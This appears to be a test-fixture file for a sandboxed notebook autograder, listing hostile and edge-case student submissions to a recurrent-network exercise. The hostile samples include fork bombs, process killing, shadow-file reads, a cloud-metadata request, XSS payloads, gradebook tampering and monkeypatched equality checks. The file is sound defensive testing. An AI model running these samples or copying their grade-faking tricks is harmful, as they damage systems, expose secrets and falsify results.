        "loop_in_answer_cell",
        "has an endless loop in the cell of an answer",
        right(answer("rnn_step", "while True:\n    pass")),
        LOST_STEP,
    ),
    Hostile(
        "loop_that_catches",
        "catches whatever is thrown at it and goes on",
        right(
            step(
                "while True:\n    try:\n        while True:\n            pass\n    except BaseException:\n        pass"
            )
        ),
        LOST_STEP,
    ),
    Hostile(
        "memory_in_lists",
        "takes memory until there is none",
        right(step("kept = []\nwhile True:\n    kept.append(bytearray(10**7))")),
        LOST_STEP,
    ),
    Hostile(
        "memory_in_arrays",
        "makes arrays of gigabytes",
        right(step("return [np.ones(2**28) for _ in range(100)]")),
        LOST_STEP,
    ),
    Hostile(
        "fork_bomb",
        "starts processes that start processes",
        right(step("import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass")),
        LOST_STEP,
        flagged=True,
        finding="processes",
    ),
    Hostile(
        "thread_bomb",
        "starts threads without end",
        right(
            step("import threading, time\nwhile True:\n    threading.Thread(target=time.sleep, args=(10**6,)).start()")
        ),
        LOST_STEP,
        flagged=True,
        finding="processes",
    ),
    Hostile(
        "thread_left_behind",
        "leaves a busy thread behind",
        right(
            before(
                "rnn_step",
                """
                import threading, time
                def busy():
                    while True:
                        sum(range(1000))
                        time.sleep(0.001)
                threading.Thread(target=busy, daemon=True).start()
                """,
            )
        ),
        FULL,
        flagged=True,
        finding="processes",
    ),
    Hostile(
        "process_left_behind",
        "leaves a process behind that has a session of its own",
        right(before("rnn_step", "import os, time\nif os.fork() == 0:\n    os.setsid()\n    time.sleep(10**6)")),
        FULL,
        flagged=True,
        finding="processes",
    ),
    Hostile(
        "exit_with_the_channel_open",
        "ends its process, and leaves another one that holds the judge's channel open",
        right(step("import os, time\nif os.fork():\n    os._exit(0)\ntime.sleep(10**6)")),
        LOST_STEP,
        flagged=True,
        finding="processes",
    ),
    Hostile(
        "exit_at_once",
        "ends the process while its answer is asked",
        right(step("import os\nos._exit(0)")),
        LOST_STEP,
        flagged=True,
        finding="processes",
    ),
    Hostile(
        "exit_in_own_cell",
        "ends the process in a cell of its own",
        right(before("rnn_step", "import os\nos._exit(0)")),
        FULL,
        flagged=True,
        finding="processes",
    ),
    Hostile("abort", "aborts", right(step("import os\nos.abort()")), LOST_STEP, flagged=True, finding="processes"),
    Hostile(
        "segfault",
        "reads memory that is not there",
        right(step("import ctypes\nreturn ctypes.string_at(0)")),
        LOST_STEP,
        flagged=True,
        finding="machine-level",
    ),
    Hostile(
        "kills_itself",
        "kills its own process",
        right(step("import os, signal\nos.kill(os.getpid(), signal.SIGKILL)")),
        LOST_STEP,
        flagged=True,
        finding="processes",
    ),
    Hostile(
        "kills_everything",
        "kills its parent, process 1, and all others that it may",
        right(
            step("""
                import os, signal
                for process in (os.getppid(), 1, -1, os.getpid()):
                    try:
                        if process:
                            os.kill(process, signal.SIGKILL)
                    except OSError:
                        pass
            """)
        ),
        LOST_STEP,
        flagged=True,
        finding="processes",
    ),
    Hostile(
        "stops_itself",
        "stops its own process, so that it neither works nor ends",
        right(step("import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)")),
        LOST_STEP,
        flagged=True,
        finding="processes",
    ),
    Hostile("system_exit", "raises SystemExit", right(step("raise SystemExit(0)")), LOST_STEP),
    Hostile("keyboard_interrupt", "raises KeyboardInterrupt", right(step("raise KeyboardInterrupt")), LOST_STEP),
    Hostile("endless_print", "prints without end", right(step("while True:\n    print('spam ' * 1000)")), LOST_STEP),
    Hostile(
        "endless_write",
        "writes to its standard output without end, past Python",
        right(step("import os\nwhile True:\n    os.write(1, b'spam ' * 1000)")),
        LOST_STEP,
        flagged=True,
        finding="files",
    ),
    Hostile(
        "endless_display",
        "displays without end, in a cell of its own",
        right(before("rnn_step", "while True:\n    display('spam ' * 1000)")),
        FULL,
    ),
    Hostile(
        "disk_filled",
        "writes files until the disk is full",
        right(
            before(
                "rnn_step",
                """
                import os
                for folder in (".", "/tmp", "/dev/shm", "/var/tmp"):
                    try:
                        for number in range(1000):
                            open(os.path.join(folder, f"junk{number}"), "wb").write(bytes(10**7))
                    except OSError:
                        pass
                """,
            )
        ),
        FULL,
        flagged=True,
        finding="files",
    ),
]

# --- out of the sandbox

ESCAPES = [
    Hostile(
        "calls_home",
        "asks this machine and the network for answers, and hands its work to others",
        right(
            step("""
                import socket, urllib.request
                for host, port in (("127.0.0.1", 8888), ("127.0.0.1", 8786), ("1.1.1.1", 53), ("example.com", 80)):
                    try:
                        with socket.create_connection((host, port), timeout=0.3) as connection:
                            connection.sendall(b"GET /rnn_step HTTP/1.0\\r\\n\\r\\n")
                            return x @ U
                    except OSError:
                        pass
                return urllib.request.urlopen("http://169.254.169.254/latest", timeout=0.3).read()
            """)
        ),
        LOST_STEP,
        flagged=True,
        finding="network",
    ),
    Hostile(
        "local_sockets",
        "connects to whatever socket of the system it finds",
        blank(
            after(
                "setup",
                """
                import glob, socket
                names = [line.split()[-1] for line in open("/proc/net/unix").read().splitlines()[1:]]
                for place in ("/run/**/*.sock", "/tmp/**/*", "/var/run/*"):
                    names += glob.glob(place, recursive=True)
                for name in names:
                    try:
                        with socket.socket(socket.AF_UNIX) as connection:
                            connection.settimeout(0.2)
                            connection.connect("\\0" + name[1:] if name.startswith("@") else name)
                            connection.sendall(b'{"passed": true}\\n')
                    except OSError:
                        pass
                """,
            )
        ),
        NOTHING,
        flagged=True,
        finding="network",
    ),
    Hostile(
        "gradebook",
        "climbs from its folder upwards, takes other submissions, and gives itself points in every database",
        blank(
            after(
                "setup",
                """
                import os, sqlite3, pathlib
                here = pathlib.Path.cwd()
                for folder in [here, *here.parents, pathlib.Path("/root"), pathlib.Path("/home"), pathlib.Path("/srv")]:
                    try:
                        for path in [*folder.glob("*/*.db"), *folder.glob("*.db"), *folder.glob("*/*/*/*.ipynb")]:
                            if path.suffix == ".db":
                                with sqlite3.connect(path) as database:
                                    database.execute("update grade set auto_score = max_score, manual_score = 100")
                            elif "def rnn_step" in path.read_text():
                                get_ipython().run_cell(path.read_text())
                    except (OSError, sqlite3.Error):
                        pass
                """,
            )
        ),
        NOTHING,
        flagged=True,
        finding="files",
    ),
    Hostile(
        "script_in_words",
        "writes a script into its written answer, for whoever reads it",
        right(
            change(
                "cell_written",
                source(
                    "<script>fetch('/api/contents')</script> <img src=x onerror=alert(1)> [here](javascript:alert(1)) "
                    "<iframe srcdoc='<script>1</script>'></iframe> $\\href{javascript:alert(1)}{W}$"
                ),
            )
        ),
        FULL,
    ),
    Hostile(
        "other_programs",
        "starts programs that gain rights, mount, or look at other processes",
        blank(
            after(
                "setup",
                """
                import subprocess
                for command in ("sudo -n id", "su -c id", "mount -t tmpfs x /mnt", "unshare -Ur id",
                                "nsenter -t 1 -a id", "ps aux", "cat /etc/shadow", "bwrap --bind / / id", "kill -9 -1"):
                    try:
                        print(subprocess.run(command.split(), capture_output=True, timeout=2))
                    except Exception as error:
                        print(error)
                """,
            )
        ),
        NOTHING,
        flagged=True,
        finding="processes",
    ),
]

# --- files that are no notebooks, or notebooks of another kind


def _ten_thousand(data: dict[str, Any]) -> None:
    own: dict[str, Any] = {"cell_type": "code", "metadata": {}, "source": "0", "outputs": [], "execution_count": None}
    data["cells"] += [own] * (10_000 - len(data["cells"]))


def _version_3(release: NotebookNode, solutions: Mapping[str, str]) -> bytes:
    sheet = []
    for cell in solved(release, solutions).cells:
        common = {"cell_type": cell.cell_type, "metadata": cell.metadata}
        code = {"input": cell.source, "outputs": [], "language": "python", "collapsed": False}
        sheet.append(common | (code if cell.cell_type == "code" else {"source": cell.source}))
    data = {"nbformat": 3, "nbformat_minor": 0, "metadata": {"name": ""}, "worksheets": [{"cells": sheet}]}
    return json.dumps(data).encode()


def _without_ids(data: dict[str, Any]) -> None:
    data["nbformat_minor"] = 0
    for cell in data["cells"]:
        cell.pop("id", None)


def _odd_json(data: dict[str, Any]) -> str:
    text = json.dumps(data)
    return '{"cells": [], "odd": [NaN, -Infinity, 1e999, ' + "9" * 10_000 + '], "metadata": 7, ' + text[1:]


def _odd_cells(data: dict[str, Any]) -> None:
    data["cells"][3:3] = [None, 7, "cell", [], {}, {"cell_type": "code"}, {"cell_type": 3, "source": {"a": [1]}}]
    for cell in data["cells"][12:]:
        cell["outputs"] = "none"
        cell.get("metadata", {}).update(tags=7, collapsed={})


def _lines(data: dict[str, Any], end: str = "\n") -> None:
    for cell in data["cells"]:
        cell["source"] = [line + end for line in cell["source"].split("\n")]
        cell["source"][-1] = cell["source"][-1].removesuffix(end)


FILES = [
    Hostile("empty_file", "is empty", file(b""), NOTHING, flagged=True, finding="empty-file"),
    Hostile(
        "no_json", "is a script", file(b"def rnn_step(x):\n    return x\n"), NOTHING, flagged=True, finding="no-json"
    ),
    Hostile("binary", "is a picture", file(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 99), NOTHING, True, "no-json"),
    Hostile("zipped", "is an archive", file(b"PK\x03\x04" + bytes(10_000)), NOTHING, flagged=True, finding="no-json"),
    Hostile("no_notebook", "is JSON, and no notebook", file(b'[{"cells": {}}]'), NOTHING, True, "no-notebook"),
    Hostile(
        "cut_off",
        "breaks off in the middle",
        lambda release, solutions: json.dumps(solved(release, solutions)).encode()[:-3000],
        NOTHING,
        flagged=True,
        finding="no-json",
    ),
    Hostile("deep_json", "is nested a million deep", file(b"[" * 10**6), NOTHING, flagged=True, finding="too-deep"),
    Hostile(
        "many_brackets",
        "has millions of empty lists",
        file(b'{"cells": [' + b"[]," * 2_000_000 + b"[]]}"),
        NOTHING,
        flagged=True,
        finding="too-complex",
    ),
    Hostile("fifty_megabytes", "has 50 MB", file(b'{"cells": []}' + b" " * 50_000_000), NOTHING, True, "too-large"),
    Hostile(
        "ten_thousand_cells",
        "has ten thousand cells, the right answers among them",
        rewritten(_ten_thousand),
        FULL,
        flagged=True,
        finding="too-many-cells",
    ),
    Hostile(
        "huge_cell",
        "has an answer of two million letters",
        right(answer("rnn_step", "#" * 2_000_000)),
        LOST_STEP,
        flagged=True,
        finding="huge-cell",
    ),
    Hostile("version_3", "is of nbformat 3", _version_3, FULL, finding="format"),
    Hostile("version_4_0", "is of nbformat 4.0, without ids", rewritten(_without_ids), FULL),
    Hostile(
        "version_5", "is of a version to come", rewritten(lambda data: data.update(nbformat=5)), FULL, False, "format"
    ),
    Hostile("odd_json", "has nan, huge numbers and one name twice", rewritten(_odd_json), FULL),
    Hostile("odd_cells", "has things for cells that are none", rewritten(_odd_cells), FULL, finding="odd-cell"),
    Hostile("lists_of_lines", "keeps its sources as lists of lines", rewritten(_lines), FULL),
    Hostile("crlf", "has the line ends of Windows", rewritten(lambda data: _lines(data, "\r\n")), FULL),
    Hostile("byte_order_mark", "begins with a byte order mark", rewritten(lambda data: None, "utf-8-sig"), FULL),
    Hostile("utf_16", "is in UTF-16", rewritten(lambda data: None, "utf-16"), FULL),
    Hostile(
        "half_a_character",
        "has half of an emoji in a comment",
        right(step(f"# \ud83d\n{RIGHT_STEP}")),
        FULL,
    ),
    Hostile(
        "another_kernel",
        "says that it is for R",
        rewritten(
            lambda data: data["metadata"].update(
                kernelspec={"name": "ir", "display_name": "R", "language": "R"}, language_info={"name": "R"}
            )
        ),
        FULL,
    ),
    Hostile(
        "r_code",
        "has a cell in another language",
        right(after("setup", "library(ggplot2)\nx <- c(1, 2, 3)\nif (x[1] == 1) { print('R') }")),
        FULL,
        finding="syntax-error",
    ),
]

# --- honest work that only looks odd: full marks, and nobody is bothered

HONEST = [
    Hostile(
        "helper_above",
        "defines what its answer calls in a cell above",
        right(before("rnn_step", "def bend(a):\n    return np.tanh(a)"), step("return bend(x @ U + h_prev @ W + b)")),
        FULL,
    ),
    Hostile(
        "helper_below",
        "defines what its answer calls in a cell below, before the check",
        right(after("rnn_step", "bend = np.tanh"), step("return bend(x @ U + h_prev @ W + b)")),
        FULL,
    ),
    Hostile(
        "answer_split",
        "splits its answer over two cells, as Jupyter splits them",
        right(
            change("rnn_step", source("def total(x, h_prev, U, W, b):\n    return x @ U + h_prev @ W + b")),
            twice("rnn_step", "def rnn_step(*args):\n    return np.tanh(total(*args))"),
        ),
        FULL,
        finding="duplicate-cell",
    ),
    Hostile(
        "answer_below_the_stub",
        "leaves the cell as it was and answers in one of its own, far below",
        lambda release, solutions: right(
            answer("rnn_step", release.cells[at(release, "rnn_step")].source),
            after("check_Network", solutions["rnn_step"]),
        )(release, solutions),
        FULL,
        finding="answer-elsewhere",
    ),
    Hostile(
        "own_order",
        "has its cells in an order of its own",
        right(lambda notebook: notebook.cells.reverse(), after("rnn_step", "scale = 1.0")),
        FULL,
    ),
    Hostile(
        "writes_to_stderr",
        "writes to stderr, which nbgrader punishes with zero",
        right(
            before("check_rnn_step", "import sys\nprint('careful', file=sys.stderr)"),
            step(f"import sys\nprint('here', file=sys.stderr)\n{RIGHT_STEP}"),
        ),
        FULL,
    ),
    Hostile(
        "warns",
        "warns, and divides by zero on the way",
        right(step(f"import warnings\nwarnings.warn('slow')\nnp.ones(2) / np.zeros(2)\n{RIGHT_STEP}")),
        FULL,
    ),
    Hostile(
        "outputs_left_in",
        "was handed in with its outputs, errors among them",
        right(
            each(
                lambda cell: cell.update(
                    execution_count=7,
                    outputs=[
                        {"output_type": "stream", "name": "stderr", "text": ["oh\n"]},
                        {"output_type": "error", "ename": "E", "evalue": "", "traceback": ["E"]},
                        {"output_type": "display_data", "data": {"text/html": "<script>1</script>"}, "metadata": {}},
                    ],
                ),
                "check",
                "answer",
            )
        ),
        FULL,
    ),
    Hostile(
        "unicode",
        "has names, texts and comments in many scripts",
        right(
            before("rnn_step", "größe, 変数, ħ = 'naïve 🐍', 'עברית', 1.0\nprint(größe, 変数)"),
            step("α = x @ U + h_prev @ W + b  # сумма 🎉\nreturn np.tanh(ħ * α)"),
        ),
        FULL,
    ),
    Hostile(
        "other_styles",
        "answers by lambda, einsum and loops",
        right(
            answer("rnn_step", "rnn_step = lambda x, h, U, W, b: np.tanh(np.einsum('nd,dh->nh', x, U) + h.dot(W) + b)"),
            answer(
                "rnn_parameter_count",
                "class Count:\n  def __call__(s, D, H, Q): return (D+H+1)*H + (H+1)*Q\nrnn_parameter_count = Count()",
            ),
        ),
        FULL,
    ),
    Hostile(
        "magics",
        "has magics in its own cells and above an answer",
        right(
            after("setup", "%%time\ntotal = sum(range(10))"),
            before("rnn_step", "%matplotlib inline\nnp.tanh?"),
            answer("rnn_step", f"%%time\ndef rnn_step(x, h_prev, U, W, b):\n    {RIGHT_STEP}"),
        ),
        FULL,
    ),
    Hostile(
        "own_checks",
        "checks in cells of its own, and asserts it",
        right(
            after("rnn_step", "assert check(rnn_step)"),
            after("check_rnn_step", "verdict = check(rnn_step)\nprint(verdict)\nhint('rnn_step')\nprogress('03_cell')"),
        ),
        FULL,
    ),
    Hostile("prints", "prints in its answer", right(step(f"print('x is', x.shape)\n{RIGHT_STEP}")), FULL),
    Hostile(
        "plots",
        "plots in a cell of its own",
        right(after("check_rnn_step", "import matplotlib.pyplot as plt\nplt.plot([1, 2], [3, 4])\nplt.show()")),
        FULL,
    ),
    Hostile(
        "asks_for_input",
        "asks for input in a cell of its own",
        right(before("rnn_step", "size = int(input('How many units? '))")),
        FULL,
    ),
    Hostile(
        "cell_that_fails",
        "has cells of its own that fail, one of them no Python",
        right(before("rnn_step", "1 / 0"), after("check_rnn_step", "def unfinished(:\n    return")),
        FULL,
        finding="syntax-error",
    ),
    Hostile(
        "awaits",
        "awaits in a cell of its own",
        right(
            before(
                "rnn_step", "import asyncio\nawait asyncio.sleep(0)\nasync def later():\n    return 1\nawait later()"
            )
        ),
        FULL,
    ),
    Hostile(
        "setup_extended",
        "added an import to the cell of imports, and comments to a check",
        right(
            change("setup", lambda cell: cell.update(source=f"{cell.source}\nimport math")),
            change("check_rnn_step", source("# now it works\ncheck(rnn_step)")),
        ),
        FULL,
        finding="check-changed",
    ),
    Hostile(
        "written_below",
        "answers the written question in a text cell of its own below it",
        right(
            lambda notebook: notebook.cells.insert(
                at(notebook, "cell_written") + 1, nbformat.v4.new_markdown_cell("Without $W$ nothing is remembered.")
            )
        ),
        FULL,
        finding="answer-elsewhere",
    ),
    Hostile(
        "installs",
        "installs a package in a cell of its own, which the sandbox cannot",
        right(after("setup", "%pip install --quiet einops")),
        FULL,
    ),
]

# --- the same on a unit with PyTorch

IN_TORCH = [
    Hostile(
        "torch_right",
        "is right, and prints and plots",
        right(after("setup", "print(torch.zeros(2))")),
        FULL,
        unit=TORCH,
    ),
    Hostile(
        "torch_own_layer",
        "takes PyTorch's layer where it is to be built, by a second name",
        right(
            after("setup", "layers = torch.nn\nBase = layers.RNN"),
            answer(
                "ScratchRNN",
                """
                class ScratchRNN(nn.Module):
                    def __init__(self, input_size, hidden_size):
                        super().__init__()
                        self.rnn = Base(input_size, hidden_size)

                    def forward(self, x, h0=None):
                        return self.rnn(x, h0)
                """,
            ),
        ),
        loses("ScratchRNN"),
        flagged=True,
        finding="forbidden-name",
        unit=TORCH,
    ),
    Hostile(
        "torch_tensor_that_lies",
        "returns a tensor of a kind that finds itself equal to everything",
        right(
            answer(
                "length_mask",
                """
                class Yes(torch.Tensor):
                    @classmethod
                    def __torch_function__(cls, function, types, args=(), kwargs=None):
                        return True
                    def __eq__(self, other):
                        return True

                def length_mask(lengths, T):
                    return torch.zeros(1).as_subclass(Yes)
                """,
            )
        ),
        loses("length_mask", scraps=True),
        flagged=True,
        finding="poses",
        unit=TORCH,
    ),
    Hostile(
        "torch_patched",
        "makes PyTorch find everything equal and every module well",
        blank(
            after(
                "setup",
                """
                torch.allclose = torch.equal = lambda *args, **kwargs: True
                torch.testing.assert_close = lambda *args, **kwargs: None
                nn.Module.__call__ = lambda self, *args, **kwargs: torch.zeros(1)
                nn.Module.load_state_dict = lambda self, *args, **kwargs: None
                """,
            )
        ),
        NOTHING,
        flagged=True,
        finding="patches",
        unit=TORCH,
    ),
    Hostile(
        "torch_dies",
        "ends the process when its module is made",
        right(
            answer(
                "CharRNN",
                """
                class CharRNN(nn.Module):
                    def __init__(self, *sizes):
                        import os
                        os._exit(1)
                """,
            )
        ),
        loses("CharRNN"),
        flagged=True,
        finding="processes",
        unit=TORCH,
    ),
]

HOSTILE = [*CELLS, *TALK, *PATCHES, *CHANNEL, *REFERENCE, *LIES, *HARM, *ESCAPES, *FILES, *HONEST, *IN_TORCH]
